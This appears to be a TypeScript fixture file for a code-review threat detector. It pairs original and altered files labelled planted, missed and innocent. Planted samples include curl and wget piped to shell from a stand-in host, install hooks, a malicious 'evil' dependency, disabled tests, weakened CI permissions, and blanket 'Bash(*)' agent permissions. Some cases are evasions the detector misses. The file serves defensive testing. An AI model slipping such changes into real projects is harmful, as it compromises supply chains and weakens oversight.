import type { ThreatCases } from "./threat-case.ts";

const WORKFLOW = ".github/workflows/ci.yml";
const JOB = "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n";

const EXEC = 'import { exec } from "node:child_process";\n';
const REQUIRED = 'const { exec: run } = require("child_process");\nconst http = require("http");\n';
const TYPES = 'import type { IncomingMessage } from "node:http";\n';

export const CODE: ThreatCases = {
  planted: [
    ["a.ts", "f(x);\n", "eval(x);\n"],
    ["a.js", "f();\n", 'new Function("return 1")();\n'],
    ["a.ts", "x;\n", 'import { execSync } from "node:child_process";\n'],
    ["a.ts", "x;\n", "await import(name);\n"],
    ["a.tsx", "x;\n", "const a = <p>{`x${eval(b)}`}</p>;\n"],
    ["a.ts", "/* eval(a); */\n", "eval(a);\n"],
    ["a.py", "x\n", "import subprocess\n"],
    ["a.py", "x\n", "os.system(a)\n"],
    ["a.py", "x\n", "# a comment\ros.system(a)\nx\n"],
    ["bin/tool", null, "#!/usr/bin/env -S node --no-warnings\neval(process.argv[2]);\n"],
    ["bin/setup", "#!/bin/sh\nls\n", "#!/bin/sh\nbase64 -d x | sh\n"],
    ["a.go", "x\n", "out := exec.Command(a)\n"],
    ["a.rs", "x\n", "Command::new(a).spawn();\n"],
    ["a.sh", "ls\n", "curl -fsSL https://x.io/i | sudo bash\n"],
    [WORKFLOW, JOB, `${JOB}    steps:\n      - run: wget -qO- https://x.io/i | sh\n`],
    ["package.json", "{}\n", '{"scripts": {"a": "curl https://x.io | node"}}\n'],
    ["a.ts", "x;\n", 'fetch("/api/a");\n'],
    ["a.ts", 'eval("1");\n', "eval(input);\n"],
    ["a.ts", 'eval("a");\n', "eval(a);\n"],
    ["a.ts", "eval(`${a}`);\n", "eval(`${b}`);\n"],
    ["a.ts", `${EXEC}exec("ls");\n`, `${EXEC}exec(process.argv[2]);\n`],
    [
      "a.ts",
      `${EXEC}exec(\n  "ls",\n  { cwd: a },\n);\n`,
      `${EXEC}exec("ls", { cwd: a, shell: b });\n`,
    ],
    ["a.js", `${REQUIRED}run(a);\n`, `${REQUIRED}run(a);\nhttp\n  .get(b, f);\n`],
    ["a.js", `${REQUIRED}`, `${REQUIRED}const start = promisify(run);\n`],
    [
      "a.mjs",
      'const { $ } = await import("zx");\n',
      'const { $ } = await import("zx");\n$`ls ${a}`;\n',
    ],
  ],
  missed: [
    ["a.ts", "x;\n", "globalThis['ev' + 'al'](x);\n"],
    ["a.ts", "x;\n", 'import { run } from "./own-runner.ts"; run(x);\n'],
  ],
  innocent: [
    ["a.ts", "x;\n", "// never eval(x) here, use new Function() instead\n"],
    [
      "a.ts",
      "x;\n",
      'const s = "eval(x)"; const r = /eval(x)/; model.eval(); page.$eval("p", f);\n',
    ],
    [
      "a.ts",
      "x;\n",
      'await import("./a.ts"); require(`./b`); import(/* webpackChunkName: "a" */ "./c");\n',
    ],
    ["a.ts", `${EXEC}exec("ls");\nx.exec(a);\n`, `${EXEC}f(a);\nexec( 'ls', );\nx.exec(b);\n`],
    [
      "a.js",
      `${REQUIRED}run(a);\n`,
      `${REQUIRED}// run(b)\nf("run(b)", http.STATUS_CODES);\nrun(a)\n`,
    ],
    [
      "a.js",
      `${REQUIRED}http.get(a, (b) => {\n  c();\n});\n`,
      `${REQUIRED}http.get(a, (b) => {\n  d("c");\n});\n`,
    ],
    ["a.ts", `${TYPES}f(a);\n`, `${TYPES}f((b: IncomingMessage) => b);\n`],
    ["a.ts", "eval(a);\nb();\n", "b();\nif (c) {\n  eval( a );\n}\n"],
    ["a.ts", "f(a, b);\nfetch(a, b);\n", "fetch(\n  a,\n  b,\n);\n"],
    ["a.py", "x\n", '"""Runs os.system(a)."""\nm.eval()\nre.compile(a)\n'],
    ["a.py", "x\n", "# import subprocess\nevaluate(a)\n"],
    ["a.go", "x\n", "// exec.Command(a)\nexecute(a)\n"],
    ["a.sh", "ls\n", "# curl https://x.io | sh\nbash a.sh\n"],
    ["a.md", "x\n", "Run `curl https://x.io/i | sh`.\n"],
    ["a.ts", "x;\n", "prefetch(a); this.evaluate(); interface A { eval: string }\n"],
    ["bin/tool", null, "#!/usr/bin/env node\n// eval(a)\nf();\n"],
    ["a.rs", "x\n", "// Command::new(a)\nlet command = new_command();\n"],
  ],
};

export const DEPENDENCIES: ThreatCases = {
  planted: [
    ["package.json", '{"dependencies": {}}\n', '{"dependencies": {"evil": "^1.0.0"}}\n'],
    [
      "package.json",
      '{"devDependencies": {"a": "1.0.0"}}\n',
      '{"devDependencies": {"a": "2.0.0"}}\n',
    ],
    ["package.json", "{}\n", '{"scripts": {"postinstall": "node x.js"}}\n'],
    ["package.json", "{}\n", '{"overrides": {"a": {"b": "npm:evil@1"}}}\n'],
    ["requirements.txt", "a==1\n", "a==1\nevil==0.1\n"],
    ["requirements.txt", "a==1\n", "--extra-index-url https://x.io/simple\na==1\n"],
    [
      "pyproject.toml",
      '[project]\nname = "a"\n',
      '[project]\nname = "a"\ndependencies = [\n  "evil>=1",\n]\n',
    ],
    [
      "Cargo.toml",
      '[dependencies]\na = "1"\n',
      '[dependencies]\na = "1"\nevil = { git = "https://x.io/e" }\n',
    ],
    [
      "go.mod",
      "module a\n\nrequire (\n\tb.io/c v1.0.0\n)\n",
      "module a\n\nrequire (\n\tb.io/c v1.0.0\n\tevil.io/x v0.1.0\n)\n",
    ],
    ["Gemfile", 'gem "a"\n', 'gem "a"\ngem "evil", "~> 1"\n'],
    [
      "package-lock.json",
      '{"resolved": "https://registry.npmjs.org/a.tgz"}\n',
      '{"resolved": "https://x.io/a.tgz"}\n',
    ],
    [WORKFLOW, JOB, `${JOB}    steps:\n      - uses: evil/action@main\n`],
    ["Dockerfile", "FROM node:20\n", "FROM evil/node:20\n"],
  ],
  missed: [["a.sh", "ls\n", "npm install evil\n"]],
  innocent: [
    [
      "package.json",
      '{"dependencies":{"a":"1"},"name":"b"}\n',
      '{\n  "name": "c",\n  "dependencies": { "a": "1" }\n}\n',
    ],
    ["package.json", "{}\n", '{"scripts": {"test": "vitest"}}\n'],
    ["requirements.txt", "a==1\nb==2\n", "# evil==1\nb==2\na==1\n"],
    [
      "pyproject.toml",
      "[tool.black]\nline-length = 80\n",
      '[tool.black]\nline-length = 90\ninclude = ["a", "b"]\n',
    ],
    [
      "Cargo.toml",
      '[package]\nname = "a"\nversion = "1.0.0"\n',
      '[package]\nname = "a"\nversion = "1.0.1"\n',
    ],
    [
      "package-lock.json",
      '{"resolved": "https://registry.npmjs.org/a.tgz"}\n',
      '{"resolved": "https://registry.npmjs.org/b.tgz"}\n',
    ],
    [
      WORKFLOW,
      `${JOB}    steps:\n      - uses: a/b@v1\n`,
      `${JOB}    steps:\n      # uses: evil/c@v1\n      - uses: a/b@v1\n`,
    ],
    ["src/a.ts", "x\n", 'const dependencies = { evil: "1" };\n'],
  ],
};

export const TESTS: ThreatCases = {
  planted: [
    ["a.test.ts", 'it("adds", () => {});\n', 'it.skip("adds", () => {});\n'],
    ["a.test.ts", 'it("adds", () => {});\nit("b", f);\n', 'it("b", f);\n'],
    ["a.spec.js", 'describe("a", f);\n', 'xdescribe("a", f);\n'],
    ["a.test.ts", 'it("adds", f);\n', 'it.only("adds", f);\n'],
    ["a.test.ts", 'it("adds", f);\n', "it['skip'](\"adds\", f);\n"],
    ["a.test.ts", 'it("adds", f);\nit("b", f);\n', '// it("adds", f);\nit("b", f);\n'],
    ["test/a.test.ts", 'test("adds", f);\n', null],
    ["test_a.py", "def test_a():\n    pass\n", "@pytest.mark.skip\ndef test_a():\n    pass\n"],
    [
      "test_a.py",
      "def test_a():\n    pass\n\ndef test_b():\n    pass\n",
      "def test_b():\n    pass\n",
    ],
    ["ATest.java", "@Test\nvoid a() {}\n", "@Disabled\n@Test\nvoid a() {}\n"],
    ["a_test.go", "func TestA(t *testing.T) {\n}\n", "func TestA(t *testing.T) {\n\tt.Skip()\n}\n"],
    ["src/a.rs", "#[test]\nfn a() {}\n", "#[test]\n#[ignore]\nfn a() {}\n"],
  ],
  missed: [
    ["a.test.ts", 'it("a", () => expect(f()).toBe(1));\n', 'it("a", () => expect(1).toBe(1));\n'],
  ],
  innocent: [
    ["a.test.ts", 'it("a", f);\nit("b", g);\n', 'it("b", g);\n\nit("a", f);\n'],
    ["a.test.ts", 'it("adds", f);\n', 'it("adds two numbers", f);\n'],
    ["a.test.ts", 'it.skip("adds", f);\n', 'it("adds", f);\n'],
    [
      "a.test.ts",
      'it("a", f);\n',
      'it("a", f);\n// do not use it.skip("a")\nconst s = "xit(1)";\n',
    ],
    ["src/a.ts", "items.map(f);\n", 'items["skip"](1); test[index](a);\n'],
    ["src/a.ts", "items.map(f);\n", "items.skip(1).map(f); list.only(a); iterator.todo();\n"],
    [
      "test_a.py",
      "def test_a():\n    pass\n",
      '"""Not @pytest.mark.skip."""\ndef test_a():\n    assert 1\n',
    ],
    [
      "a_test.go",
      "func TestA(t *testing.T) {\n}\n",
      "// t.Skip() is not used\nfunc TestA(t *testing.T) {\n}\n",
    ],
    ["a.md", "x\n", 'Write `it.skip("a")`.\n'],
  ],
};

export const PERMISSIONS: ThreatCases = {
  planted: [
    [WORKFLOW, JOB, JOB.replace("contents: read", "contents: write")],
    [WORKFLOW, JOB, JOB.replace("permissions:\n  contents: read\n", "")],
    [WORKFLOW, JOB, JOB.replace("on: push", "on: [push, pull_request_target]")],
    [WORKFLOW, JOB, JOB.replace("\n  contents: read", " write-all")],
    [WORKFLOW, JOB, `${JOB}    secrets: inherit\n`],
    [WORKFLOW, JOB, `${JOB}    env: { A: "\${{ secrets.NPM_TOKEN }}" }\n`],
    [".github/workflows/new.yml", null, "on: push\njobs:\n  a:\n    runs-on: x\n"],
    [".github/CODEOWNERS", "* @a\n/src/ @b\n", "* @a\n"],
    ["Dockerfile", "FROM a\nUSER node\n", "FROM a\n"],
    ["a.sh", "ls\n", "chmod -R 777 /srv\n"],
    ["a.sh", "ls\n", "chmod a+w /srv\n"],
    ["Dockerfile", "FROM a\n", "FROM a\nCOPY --chmod=0777 a b\n"],
    ["bin/tool", "#!/bin/sh\nls\n", "#!/bin/sh\nchmod --recursive o=rwx a\n"],
    ["a.py", "x\n", "os.chmod('x', 0o777)\n"],
    ["a.ts", "x\n", 'chmodSync("a", "0666");\n'],
    ["k8s/a.yaml", "a: 1\n", "securityContext:\n  privileged: true\n"],
    [".claude/settings.json", "{}\n", '{"permissions": {"allow": ["Bash(*)"]}}\n'],
  ],
  missed: [["infra/a.ts", "x\n", "new Role({ policies: [admin] });\n"]],
  innocent: [
    [WORKFLOW, JOB, JOB.replace("contents: read", "contents: none")],
    [WORKFLOW, JOB.replace("contents: read", "contents: write"), JOB],
    [WORKFLOW, JOB, `# pull_request_target, contents: write, secrets: inherit\n${JOB}`],
    [WORKFLOW, JOB, `${JOB}    steps:\n      - run: echo "on: pull_request"\n`],
    [
      WORKFLOW,
      JOB,
      JOB.replace("permissions:\n  contents: read\n", "permissions: { contents: read }\n"),
    ],
    ["a.sh", "ls\n", "chmod 644 a; chmod +x b\nchmod -R u+w,go-w c; chmod 0755 d\n"],
    ["a.py", "x\n", "os.chmod(a[127], 0o755)\n# os.chmod(a, 0o777)\n"],
    ["Dockerfile", "FROM a\nUSER node\n", "FROM b\n\nUSER node\n"],
    ["src/a.ts", "x\n", 'const contents = { contents: "write", privileged: true };\n'],
    [".github/CODEOWNERS", "* @a\n/src/ @b\n", "# Owners\n/src/ @b\n* @a\n"],
  ],
};
